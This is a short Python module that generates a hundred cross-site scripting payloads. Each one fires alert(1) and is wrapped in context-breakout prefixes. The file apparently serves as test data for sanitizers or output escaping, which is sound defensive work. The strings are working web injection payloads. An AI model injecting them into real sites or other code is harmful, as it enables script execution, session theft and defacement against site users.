"""A hundred strings with which pages have been made to run somebody's script."""

_RUN = "alert(1)"
_VECTORS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<iframe src=javascript:{}>", "<body onload={}>", "<input autofocus onfocus={}>", "<details open ontoggle={}>",
    "<video><source onerror={}></video>", "<a href=javascript:{}>x</a>", "<math><mi//xlink:href=javascript:{}>x",
    "<style>@import 'javascript:{}'</style>", "<div style=width:expression({})>", "<object data=javascript:{}>",
    "<link rel=stylesheet href=javascript:{}>", "<meta http-equiv=refresh content=0;url=javascript:{}>",
    "<base href=javascript:{}//>", "<form action=javascript:{}><button>x</form>", "<marquee onstart={}>x</marquee>",
    "<div hx-on:load={} hx-trigger=load hx-get=/>x</div>", "<div data-hx-get=/more hx-trigger=load hx-vals=js:{}>x</div>",
    "javascript:{}", "data:text/html,<script>{}</script>", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}",
)  # fmt: skip
_WRAPPERS = ("{}", "\"'>{}", "</textarea></title></script>{}", "--><!--{}")
VECTORS = tuple(wrapper.format(vector.format(_RUN)) for vector in _VECTORS for wrapper in _WRAPPERS)
ALL = " ".join(VECTORS)
